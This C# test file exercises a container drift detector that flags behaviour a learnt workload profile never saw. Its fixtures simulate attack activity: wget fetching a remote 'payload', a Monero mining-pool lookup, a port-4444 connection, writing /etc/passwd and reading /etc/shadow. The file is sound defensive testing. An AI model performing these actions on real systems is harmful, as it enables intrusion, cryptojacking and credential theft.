using FsCheck;
using FsCheck.Fluent;
using FsCheck.Xunit;
using WorkloadProfiles.Domain.Drift;
using WorkloadProfiles.Domain.Events;
using WorkloadProfiles.Domain.Identity;
using WorkloadProfiles.Domain.Profiles;
using WorkloadProfiles.Domain.Snapshots;
using static WorkloadProfiles.Domain.Tests.Events;

namespace WorkloadProfiles.Domain.Tests;

/// <summary>Drift: what a Stable profile never saw, judged with the same identity and normalization as its snapshots.</summary>
public class DriftTests
{
    private static readonly ContainerRef Learner = new("c-learn", "web", "1.0");

    /// <summary>The web image as learnt: a shell entrypoint running a health-check script, reading its config, resolving
    /// its upstream, writing its log and 20 spool files (which collapse into a pattern).</summary>
    private static RawEvent[] Normal(long at, int id = 0) =>
    [
        Exec(at, 1, "/bin/sh", "sh", "/app/run.sh"),
        Open(at + 1, 1, "/etc/app.conf"),
        Open(at + 2, 1, "/var/log/app.log", 0x441),
        Dns(at + 3, 1, "upstream.internal"),
        Fork(at + 4, 1, 2),
        ExecChild(at + 5, 2, 1, "/usr/bin/wget", "wget", "-q", $"http://127.0.0.1:8080/health?ts={at}"),
        Connect(at + 6, 2, "127.0.0.1", 8080),
        Exit(at + 7, 2),
        .. Enumerable.Range(0, 20).Select(i => Open(at + 8 + i, 1, $"/var/spool/app/{(char)('a' + i)}{(char)('a' + id)}.json", 0x41)),
    ];

    private static SecurityProfile Learnt(int snapshots = 3)
    {
        var aggregate = new ProfileAggregate(Learner.ProfileKey!.Value, ProfilePolicy.Default with { StableSnapshotCount = snapshots });
        for (var i = 0; i < snapshots; i++)
        {
            var builder = new SnapshotBuilder(Learner with { Id = $"c-learn-{i}" }, "h", i * 1_000_000, (i + 1) * 1_000_000);
            builder.AddRange(Normal(i * 1_000_000 + 10, i));
            aggregate.Merge(builder.Build(), (i + 1) * 1_000_000);
        }
        var profile = aggregate.ToProfile();
        Assert.Equal(ProfileStatus.Stable, profile.Status);
        return profile;
    }

    private static readonly DriftBaseline Baseline = DriftBaseline.From(Learnt());

    /// <summary>Runs events through a fresh container's lineage and returns the findings.</summary>
    private static List<DriftFinding> Inspect(IEnumerable<RawEvent> events, DriftKinds kinds = DriftKinds.Default, DriftDetector? detector = null)
    {
        detector ??= new DriftDetector();
        var processes = new ProcessTable();
        var findings = new List<DriftFinding>();
        foreach (var e in events)
        {
            if (e.Kind is EventKind.Exec or EventKind.Fork or EventKind.Exit) processes.Apply(e);
            if (detector.Inspect(e, processes, Baseline, kinds) is { } finding) findings.Add(finding);
        }
        return findings;
    }

    [Fact]
    public void Learnt_behaviour_with_new_timestamps_and_file_names_is_not_drift()
    {
        Assert.Empty(Inspect(Normal(50_000_000, id: 7)));
    }

    [Fact]
    public void A_new_program_is_process_drift_with_its_closest_known_ancestor()
    {
        var finding = Assert.Single(Inspect([.. Normal(50_000_000), Fork(50_000_100, 1, 9), ExecChild(50_000_101, 9, 1, "/usr/bin/curl", "curl", "http://x")]));

        Assert.Equal(DriftRules.Process, finding.RuleId);
        Assert.Null(finding.UnseenSignature);
        Assert.Equal("/usr/bin/curl", finding.NodeKey);
        Assert.Equal("/bin/sh /app/run.sh", finding.ClosestKnownKey);
        Assert.Equal(["/bin/sh /app/run.sh", "/usr/bin/curl"], finding.Path);
        Assert.Contains("closest known ancestor: /bin/sh /app/run.sh", finding.Reason, StringComparison.Ordinal);
    }

    [Fact]
    public void A_known_program_with_arguments_the_profile_never_saw_is_process_drift()
    {
        var finding = Assert.Single(Inspect([.. Normal(50_000_000), Fork(50_000_100, 1, 9),
            ExecChild(50_000_101, 9, 1, "/usr/bin/wget", "wget", "-q", "http://203.0.113.9/payload")]));

        Assert.Equal(DriftRules.Process, finding.RuleId);
        Assert.Equal("/usr/bin/wget", finding.NodeKey);
        Assert.NotNull(finding.UnseenSignature);
        Assert.Contains("public", finding.UnseenSignature, StringComparison.Ordinal);
    }

    [Fact]
    public void New_names_addresses_and_written_files_are_drift_of_their_kind_and_reads_only_when_asked()
    {
        RawEvent[] odd =
        [
            Dns(50_000_100, 1, "pool.minexmr.com"),
            Connect(50_000_101, 1, "198.51.100.7", 4444),
            Open(50_000_102, 1, "/etc/passwd", 0x401),
            Open(50_000_103, 1, "/etc/shadow"),
            Open(50_000_104, 1, "/etc/app.conf", 0x1), // known, but only ever read
        ];

        var findings = Inspect([.. Normal(50_000_000), .. odd]);
        Assert.Equal([DriftRules.Dns, DriftRules.Network, DriftRules.File, DriftRules.File], findings.Select(f => f.RuleId));
        Assert.True(findings[3].WriteOfReadOnlyNode);
        Assert.DoesNotContain(findings, f => f.NodeKey == "/etc/shadow");

        var withReads = Inspect([.. Normal(50_000_000), .. odd], DriftKinds.All);
        Assert.Contains(withReads, f => f.NodeKey == "/etc/shadow");
        Assert.Empty(Inspect([.. Normal(50_000_000), .. odd], DriftKinds.None));
    }

    [Fact]
    public void A_file_matching_a_collapsed_sibling_pattern_of_the_profile_is_not_drift()
    {
        Assert.Contains(Learnt().Nodes, n => n.Key == "/var/spool/app/*.json");
        Assert.Empty(Inspect([.. Normal(50_000_000), Open(50_000_100, 1, "/var/spool/app/zz.json", 0x41)]));
        Assert.Single(Inspect([.. Normal(50_000_000), Open(50_000_100, 1, "/var/spool/app/zz.sh", 0x41)]));
    }

    [Fact]
    public void A_process_whose_exec_was_never_seen_and_rescans_are_not_judged()
    {
        var detector = new DriftDetector();
        Assert.Empty(Inspect([Dns(1, 77, "anything.example") with { Comm = "mystery" }], detector: detector));
        Assert.Equal(1, detector.UnresolvedLineage);
        Assert.Empty(Inspect([Exec(1, 5, "/usr/bin/unknown") with { Rescan = true }]));
    }

    [Fact]
    public void An_overflowed_signature_set_never_makes_new_arguments_drift()
    {
        var profile = Learnt();
        var wget = profile.Nodes.Single(n => n.Key == "/usr/bin/wget");
        var overflowed = DriftBaseline.From(profile with
        {
            Nodes = [.. profile.Nodes.Select(n => n.Id == wget.Id ? n with { SignaturesOverflowed = true } : n)],
        });

        Assert.True(overflowed.KnowsSignature(wget.Id, "anything at all"));
        Assert.False(Baseline.KnowsSignature(wget.Id, "anything at all"));
        Assert.Equal(profile.Nodes.Count, Baseline.NodeCount);
        Assert.True(Baseline.MemoryBytes >= 8L * (Baseline.NodeCount + Baseline.SignatureCount));
    }

    [Fact]
    public void The_ledger_reports_each_drift_once_per_window_then_caps_with_one_overflow()
    {
        var ledger = new DriftLedger();
        Assert.Equal(DriftAdmission.Report, ledger.Admit(1, 0, 2));
        Assert.Equal(DriftAdmission.Duplicate, ledger.Admit(1, 0, 2));
        Assert.Equal(DriftAdmission.Report, ledger.Admit(2, 0, 2));
        Assert.Equal(DriftAdmission.Overflow, ledger.Admit(3, 0, 2));
        Assert.Equal(DriftAdmission.OverCap, ledger.Admit(4, 0, 2));
        Assert.Equal(DriftAdmission.Duplicate, ledger.Admit(2, -5, 2)); // a late event counts against the current window
        Assert.Equal(2, ledger.OverCap);

        var restored = DriftLedger.Restore(ledger.WindowStartUs, ledger.Reported, ledger.OverflowReported);
        Assert.Equal(DriftAdmission.Duplicate, restored.Admit(1, 0, 2));
        Assert.Equal(DriftAdmission.OverCap, restored.Admit(5, 0, 2));

        Assert.Equal(DriftAdmission.Report, ledger.Admit(1, 10, 2)); // a new window starts over
        Assert.False(ledger.OverflowReported);
    }

    [Fact]
    public void Kinds_parse_from_their_configuration_names()
    {
        Assert.Equal(DriftKinds.Default, DriftRules.ParseKinds("exec, dns,connect ,file-write"));
        Assert.Equal(DriftKinds.All, DriftRules.ParseKinds("default,file-read"));
        Assert.Equal(DriftKinds.None, DriftRules.ParseKinds("none"));
        Assert.Equal(DriftKinds.Default, DriftRules.ParseKinds(DriftRules.Format(DriftKinds.Default)));
        var error = Assert.Throws<FormatException>(() => DriftRules.ParseKinds("exec,files"));
        Assert.Contains("file-write", error.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void Image_rules_pick_kinds_by_the_whole_image_name_and_bad_patterns_fail_at_start()
    {
        var policy = new DriftPolicy { Images = [new DriftImageRule("registry/batch-.*", DriftKinds.Exec)] };
        Assert.Equal(DriftKinds.Exec, policy.KindsFor("registry/batch-etl"));
        Assert.Equal(DriftKinds.Default, policy.KindsFor("other/registry/batch-etl"));
        Assert.Throws<ArgumentException>(() => new DriftPolicy { Images = [new DriftImageRule("(", DriftKinds.Exec)] }.Validate());
        Assert.False(policy.Watches(ProfileStatus.Learning, 1_000));
        Assert.True((policy with { MinLearningSnapshots = 10 }).Watches(ProfileStatus.Learning, 10));
    }

    /// <summary>Random container activity learnt into a Stable profile: the same activity in another container is never
    /// drift. Drift and snapshots agree on every node id, whatever the paths, names, addresses and arguments.</summary>
    [Property(MaxTest = 200)]
    public Property Whatever_a_profile_learnt_is_never_drift() =>
        Prop.ForAll(Activities(), activity =>
        {
            var builder = new SnapshotBuilder(Learner, "h", 0, 1_000_000_000);
            builder.AddRange(activity.Items);
            var aggregate = new ProfileAggregate(Learner.ProfileKey!.Value, ProfilePolicy.Default with { StableSnapshotCount = 1 });
            aggregate.Merge(builder.Build(), 1);
            var baseline = DriftBaseline.From(aggregate.ToProfile());

            var processes = new ProcessTable();
            var detector = new DriftDetector();
            foreach (var e in activity.Items)
            {
                if (e.Kind is EventKind.Exec or EventKind.Fork or EventKind.Exit) processes.Apply(e);
                if (detector.Inspect(e, processes, baseline, DriftKinds.All) is { } finding)
                    return false.Label($"{finding.RuleId} {finding.NodeKey}: {finding.Reason}");
            }
            return true.ToProperty();
        });

    private static Arbitrary<RawEventList> Activities()
    {
        var path = Gen.Elements("/etc/app.conf", "/tmp/x-12345.log", "/var/lib/db/0a1b2c3d4e5f.dat", "/proc/42/status", "/data/../etc/passwd",
            "/srv/données/日本", "/a/b/c", "//etc//hosts");
        var program = Gen.Elements("/bin/sh", "/usr/bin/wget", "/usr/bin/python3", "/app/server", "/bin/busybox");
        var arg = Gen.Elements("-c", "echo 1", "http://127.0.0.1:8080/x?y=1", "10.0.0.5:443", "--port=8080", "/tmp/f-9999", "-q", "wget -O- http://h/p");
        var evt = Gen.OneOf(
            from pid in Gen.Choose(1, 6) from ppid in Gen.Choose(0, 6) from p in program from args in Gen.ListOf(arg)
            select ExecChild(0, pid, ppid, p, [p[(p.LastIndexOf('/') + 1)..], .. args.Take(4)]),
            from pid in Gen.Choose(1, 6) from child in Gen.Choose(2, 8) select Fork(0, pid, child),
            from pid in Gen.Choose(1, 8) select Exit(0, pid),
            from pid in Gen.Choose(1, 8) from p in path from flags in Gen.Elements(0, 0x41, 0x2) select Open(0, pid, p, flags),
            from pid in Gen.Choose(1, 8) from name in Gen.Elements("api.internal", "Example.COM.", "x.y.z") select Dns(0, pid, name),
            from pid in Gen.Choose(1, 8) from address in Gen.Elements("127.0.0.1", "10.1.2.3", "203.0.113.4", "::1") from port in Gen.Elements(53, 443, 8080)
            select Connect(0, pid, address, port));
        return Gen.ListOf(evt)
            .Select(events => new RawEventList([.. events.Select((e, i) => e with { TimestampUs = 1_000 + i })]))
            .ToArbitrary();
    }
}
